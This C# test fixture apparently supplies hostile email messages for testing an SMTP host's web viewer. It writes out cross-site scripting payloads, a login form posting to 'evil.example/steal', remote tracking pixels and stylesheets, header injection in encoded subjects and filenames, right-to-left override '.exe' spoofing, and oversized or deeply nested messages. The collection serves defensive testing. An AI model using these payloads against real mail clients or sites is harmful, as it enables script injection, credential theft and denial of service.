using System.Text;

namespace Smtp.Host.Tests.Web.Pages;

/// <summary>Messages that nobody should have to read.</summary>
internal static class Hostile
{
    public const string Elsewhere = "evil.example";

    public static IEnumerable<(string Name, string Content)> All()
    {
        yield return ("script", Html("<script>alert(1)</script><script src=\"https://evil.example/x.js\"></script><p>read me</p>"));
        yield return ("handlers", Html("<body onload=alert(1)><img src=x onerror=alert(2)><a href=\"javascript:alert(3)\" onclick=alert(4)>x</a><details open ontoggle=alert(5)>d</details>"));
        yield return ("forms", Html("<form action=\"https://evil.example/steal\" method=post><input name=p autofocus onfocus=alert(1)><button formaction=https://evil.example/b>Log in</button></form>"));
        yield return ("refresh", Html("<meta http-equiv=refresh content=\"0;url=https://evil.example/\"><base href=\"https://evil.example/\"><p>gone?"));
        yield return ("images", Html("<img src=\"https://evil.example/pixel.gif\"><img srcset=\"https://evil.example/2x.png 2x\"><picture><source srcset=https://evil.example/s.png></picture><video poster=https://evil.example/v.png></video><table background=https://evil.example/t.png>"));
        yield return ("styles", Html("<style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style><link rel=stylesheet href=https://evil.example/c.css><link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example><p style=\"background:url('//evil.example/d.png')\">x</p>"));
        yield return ("svg", Html("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=alert(1)><script>alert(2)</script><image href=\"https://evil.example/i.png\"/><use href=\"https://evil.example/u.svg#x\"/><a xlink:href=\"javascript:alert(3)\"><text>x</text></a><foreignObject><iframe src=https://evil.example></iframe></foreignObject></svg>"));
        yield return ("frames", Html("<iframe src=https://evil.example/></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe><object data=https://evil.example/o></object><embed src=https://evil.example/e><portal src=https://evil.example/p></portal>"));
        yield return ("mutation", Html("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\"></table><noscript><p title=\"</noscript><img src=x onerror=alert(2)>\"></noscript><a\"b onclick=alert(3)>x<img src=\"https://evil.example/m.png\"\nonerror=alert(4)//"));
        yield return ("subject", $"From: \"<script>alert(1)</script>\" <ann@example.org>\nTo: bob@example.net\nSubject: <img src=https://evil.example/x onerror=alert(1)>\"'><script>alert(2)</script>\nContent-Type: text/plain\n\n<script>alert(3)</script> https://evil.example/link?\"onmouseover=alert(4)\n");
        yield return ("injection", "From: ann@example.org\nTo: bob@example.net\nSubject: =?utf-8?Q?a=0D=0ASet-Cookie:_x=3D1=0D=0A=0D=0A<script>?=\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nhello\n--b\nContent-Type: text/html; name=\"a.html\"\nContent-Disposition: attachment; filename*=utf-8''a%0D%0AX-Evil:%201%22;.html\n\n<script>alert(1)</script>\n--b--\n");
        yield return ("broken", "Subject: broken\nContent-Type: multipart/mixed; boundary=\"never\nContent-Transfer-Encoding: base64\n\n--never\n%%%%\n--nev");
        yield return ("no header", "\n\n\n<script>alert(1)</script>\n");
        yield return ("huge header", $"From: ann@example.org\nSubject: {new string('x', 300_000)}\nX-Long: {new string('y', 1_200_000)}\n\nhello\n");
        yield return ("many headers", $"From: ann@example.org\nSubject: many\n{string.Concat(Enumerable.Range(0, 20_000).Select(i => $"X-{i}: {i}\n"))}\nhello\n");
        yield return ("many parts", Parts(10_000));
        yield return ("deep", Deep(300));
        yield return ("many inline", ManyInline());
        yield return ("controls", "From: ann@example.org\nSubject: =?utf-8?Q?invoice=E2=80=AEfdp.exe?=\nContent-Type: text/plain; charset=utf-8\n\n\u202Egnp.exe \u0007\u001b[31m red\n");
    }

    public static string Html(string html) =>
        $"From: ann@example.org\nTo: bob@example.net\nSubject: hostile\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{html}\n";

    private static string Parts(int count)
    {
        var text = new StringBuilder("From: ann@example.org\nSubject: parts\nContent-Type: multipart/mixed; boundary=b\n\n");
        for (var i = 0; i < count; i++) text.Append("--b\nContent-Type: application/pdf; name=\"").Append(i).Append(".pdf\"\n\nx\n");
        return text.Append("--b--\n").ToString();
    }

    private static string Deep(int depth)
    {
        var text = new StringBuilder("From: ann@example.org\nSubject: deep\n");
        for (var i = 0; i < depth; i++) text.Append("Content-Type: multipart/mixed; boundary=b").Append(i).Append("\n\n--b").Append(i).Append('\n');
        return text.Append("Content-Type: text/plain\n\nhello\n").ToString();
    }

    private static string ManyInline()
    {
        var picture = Convert.ToBase64String(new byte[200_000]);
        var html = string.Concat(Enumerable.Repeat("<img src=\"cid:p@x\">", 5000));
        return "From: ann@example.org\nSubject: inline\nContent-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n" + html
            + "\n--b\nContent-Type: image/png\nContent-ID: <p@x>\nContent-Transfer-Encoding: base64\n\n" + picture + "\n--b--\n";
    }
}
